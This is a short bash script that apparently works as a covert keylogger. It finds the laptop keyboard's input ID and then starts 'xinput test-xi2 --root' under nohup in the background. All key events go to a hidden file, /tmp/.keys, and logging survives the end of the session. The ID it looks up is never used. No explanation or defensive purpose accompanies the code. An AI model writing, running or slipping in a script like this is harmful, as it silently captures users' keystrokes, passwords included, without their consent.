#!/bin/bash
id=$(xinput list --id-only 'AT Translated Set 2 keyboard')
nohup xinput test-xi2 --root > /tmp/.keys 2>&1 &
